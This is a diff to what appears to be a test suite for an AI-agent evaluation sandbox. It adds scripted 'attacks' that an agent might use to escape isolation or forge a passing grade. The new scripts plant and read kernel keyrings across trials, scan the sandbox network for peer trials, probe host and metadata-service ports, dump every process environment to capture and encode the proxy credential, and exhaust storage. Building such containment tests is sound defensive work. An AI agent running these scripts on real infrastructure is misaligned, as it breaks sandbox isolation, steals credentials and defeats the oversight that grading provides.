@@ -7,8 +7,10 @@ run. The task itself is trivial (write 42 to /app/answer.txt); no attack does it
 that comes out `passed` is a forged pass, except the honest one's.
 
 A script prints a line starting `ESCAPED` (or `ALLOCATED`) whenever a step that must fail succeeds;
-the tests look for it in the agent's log. Paths of the harness's own files reach the scripts as
-@NAME@ placeholders.
+the tests look for it in the agent's log. Paths of the harness's own files, and what the test
+plants on the host (a listener's port, a key's description), reach the scripts as @NAME@
+placeholders. An attack on the network runs in a task that allows it (`internet`), so that it
+meets the seal itself, not a sandbox without network.
 """
 
 from __future__ import annotations
@@ -57,6 +59,7 @@ APT_HOOK = (
 # succeeded where it must not.
 WATCH = "/logs/agent/watcher.log"
 
+PASSED = (Outcome.PASSED, Reason.TESTS_PASSED)
 FAILED = (Outcome.FAILED, Reason.TESTS_FAILED)
 TAMPERED = (Outcome.FAILED, Reason.GRADER_TAMPERED)
 VERIFIER_ERROR = (Outcome.INFRA_ERROR, Reason.VERIFIER_ERROR)
@@ -81,6 +84,8 @@ class Attack:
     image: str = "debian:bookworm-slim"  # the task's FROM (oci); python for the Python attacks
     left: str = ""  # a word the evidence's list of what the agent left running must hold
     tb2_grader: str = ""  # a Terminal-Bench 2.0 task whose test.sh, verbatim, is the grader
+    internet: bool = False  # task.toml's allow_internet = true
+    first: bool = False  # started before the others, so that such attacks are in flight together
 
     def expected(self, backend: str) -> tuple[Outcome, Reason]:
         return self.expect_oci if self.expect_oci and backend != "process" else self.expect
@@ -88,6 +93,128 @@ class Attack:
 
 def _background(script: str) -> str:
     return BACKGROUND.format(script="'" + script.replace("'", "'\\''") + "'")
+
+
+# -- the kernel keyring: root's user keyring is one for every process of uid 0 on the host ---------
+# x86-64 numbers: add_key 248, request_key 249, keyctl 250; rings @u -4, @s -3, @us -5.
+KEYRING_PLANT = r"""
+perl -e '
+my ($type, $desc, $data) = ("user", "levelfield-hostile-answer", "42");
+for my $where (-4, -3, -5) {
+  my $id = syscall(248, $type, $desc, $data, length($data), $where);
+  print $id > 0 ? "ESCAPED " : "", "add_key into $where: $id $!\n";
+}
+my $ring = "levelfield-hostile-ring";
+my $joined = syscall(250, 1, $ring);
+print $joined > 0 ? "ESCAPED " : "", "a named session keyring: $joined $!\n";
+'
+"""
+KEYRING_READ = r"""
+for i in $(seq 10); do
+perl -e '
+my ($type, $buf) = ("user", "\0" x 256);
+for my $name ("levelfield-hostile-answer", "@KEY_DESC@") {
+  my $desc = "$name";  # a copy: syscall(2) may write to its string arguments
+  for my $where (-4, -3, -5) {
+    my $id = syscall(250, 10, $where, $type, $desc, 0);
+    next unless $id > 0;
+    my $n = syscall(250, 11, $id, $buf, 256);
+    print "ESCAPED read $desc: ", substr($buf, 0, $n), "\n";
+    open my $f, ">", "/app/answer.txt"; print $f substr($buf, 0, $n), "\n";
+  }
+  my $id = syscall(249, $type, $desc, 0, 0);
+  print "ESCAPED request_key $desc: $id\n" if $id > 0;
+}
+my $ring = "levelfield-hostile-ring";
+print "ESCAPED joined another trial keyring\n" if syscall(250, 1, $ring) > 0;
+my $u = syscall(250, 0, -4, 0);
+print $u > 0 ? "ESCAPED " : "", "the user keyring: $u $!\n";
+'
+[ -s /app/answer.txt ] && break
+sleep 0.5
+done
+"""
+
+# -- another trial in flight: each serves its copy of the answer and scans the sandbox pool ------
+PEER = r"""
+me=$(head -c 8 /dev/urandom | od -An -tx1 | tr -d " \n")
+ME=$me perl -MIO::Socket::INET -e '
+my $srv = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => 7777, Listen => 64,
+                                ReuseAddr => 1) or die "listen: $!";
+while (my $c = $srv->accept) {
+  print $c "ANSWER 42 $ENV{ME}\n";
+  if ($c->peerhost ne $c->sockhost) {  # not its own scan
+    open my $f, ">>", "/logs/agent/seen.txt"; print $f "CONNECTED from ", $c->peerhost, "\n";
+  }
+  close $c;
+}' &
+sleep 1
+ME=$me perl -MIO::Socket::INET -MIO::Select -MSocket=inet_ntoa -e '
+$| = 1;
+my @targets = map { inet_ntoa(pack("N", 0xA9FEC000 + 4 * $_ + 2)) } 0 .. 4095;
+my ($end, $rounds) = (time + 10, 0);  # the other starts within seconds: scan until then
+while (time < $end) {
+  my @left = @targets;
+  while (my @batch = splice(@left, 0, 400)) {
+    my ($connecting, @up) = (IO::Select->new);
+    for my $ip (@batch) {
+      my $s = IO::Socket::INET->new(PeerAddr => $ip, PeerPort => 7777, Proto => "tcp",
+                                    Blocking => 0) or next;
+      $connecting->add($s);
+    }
+    for (1 .. 5) {
+      last unless $connecting->count;
+      for my $s ($connecting->can_write(0.2)) {
+        $connecting->remove($s);
+        push @up, $s if $s->connected;
+      }
+    }
+    my $answering = IO::Select->new(@up);
+    for (1 .. 5) {
+      last unless $answering->count;
+      for my $s ($answering->can_read(0.2)) {
+        $answering->remove($s);
+        my $line = "";
+        sysread($s, $line, 200);
+        next if $line !~ /ANSWER/ || $line =~ /$ENV{ME}/;
+        print "ESCAPED reached another trial at ", $s->peerhost, ": $line";
+        open my $f, ">", "/app/answer.txt"; print $f "42\n";
+      }
+    }
+    close $_ for $connecting->handles, @up;
+  }
+  $rounds++;
+}
+print "scanned the pool $rounds times\n";'
+"""
+
+# -- the host's own services: a listener on 0.0.0.0, at every address of the host and the gateway --
+HOST_SERVICE = r"""
+gateway=$(perl -MSocket=inet_ntoa -ne '@f = split; print inet_ntoa(pack("V", hex $f[2])), "\n"
+  if $f[1] eq "00000000" && $f[2] ne "00000000"' /proc/net/route | head -1)
+for addr in $gateway @HOST_ADDRS@ 169.254.169.254; do
+  said=$(timeout 3 bash -c "exec 3<>/dev/tcp/$addr/@HOST_PORT@ && head -c 100 <&3" 2>&1)
+  case "$said" in *HOST-SERVICE*) echo "ESCAPED the host answered at $addr: $said" ;; esac
+  echo "$addr: ${said:-nothing}"
+done
+"""
+
+# -- the host's proxy credential, looked for in every encoding masking would miss ---------------
+PROXY_CREDENTIAL = r"""
+{ env; for p in /proc/[0-9]*; do tr "\0" "\n" < "$p/environ"; done; } 2>/dev/null > /tmp/all
+base64 -w0 /tmp/all > /logs/agent/env.b64
+rev /tmp/all > /logs/agent/env.rev
+base64 -w0 /tmp/all; rev /tmp/all
+p=${HTTPS_PROXY#http://}; p=${p%/}
+exec 3<>"/dev/tcp/${p%:*}/${p##*:}" || exit 1
+printf "CONNECT example.test:443 HTTP/1.1\r\nHost: example.test:443\r\n\r\n" >&3
+echo "RELAYED $(timeout 5 head -c 100 <&3)"
+"""
+
+DEEP = """
+deep={top}/$(printf "d/%.0s" $(seq 1100))
+mkdir -p "$deep" && echo leaf > "$deep/leaf" && echo made 1100 folders
+"""
 
 
 ATTACKS = [
@@ -492,6 +619,30 @@ EOF
         grader="echo '{\"reward\": true}' > /logs/verifier/reward.json\n",
         note="not a number in [0, 1]",
     ),
+    # -- sealed from the other trials and the host ---------------------------------------------
+    Attack("keyring-plant", KEYRING_PLANT, FAILED, first=True),
+    Attack("keyring-read", KEYRING_READ, FAILED, agent_timeout=60),
+    Attack("peer-a", PEER, FAILED, internet=True, agent_timeout=60, first=True),
+    Attack("peer-b", PEER, FAILED, internet=True, agent_timeout=60, first=True),
+    Attack("honest-net", "echo 42 > /app/answer.txt", PASSED, internet=True),
+    Attack("host-service", HOST_SERVICE, FAILED, internet=True, agent_timeout=60),
+    Attack("proxy-credential", PROXY_CREDENTIAL, FAILED, internet=True, secret=True),
+    # -- bounded cost ---------------------------------------------------------------------------
+    Attack(
+        "print-2g",
+        "head -c 2G /dev/zero; echo printed",
+        FAILED,
+        storage_mb=16,  # 48 MiB under the run's 3x
+        agent_timeout=150,
+        note="agent.log cut",
+    ),
+    Attack("deep-agent-logs", DEEP.format(top="/logs/agent"), FAILED),
+    Attack("deep-verifier-logs", DEEP.format(top="/logs/verifier"), FAILED),
+    Attack(
+        "sparse-logs",
+        "truncate -s 250M /logs/agent/sparse1 /logs/agent/sparse2; echo end >> /logs/agent/sparse1",
+        FAILED,
+    ),
     Attack(
         "grader-above-one",
         "echo 42 > /app/answer.txt",
@@ -513,6 +664,7 @@ def write_dataset(root: Path, places: dict[str, str]) -> Path:
             version = "1.0"
             [environment]
             userland = "host"
+            {"allow_internet = true" if attack.internet else ""}
             cpus = {attack.cpus}
             memory_mb = {attack.memory_mb}
             storage_mb = {attack.storage_mb}
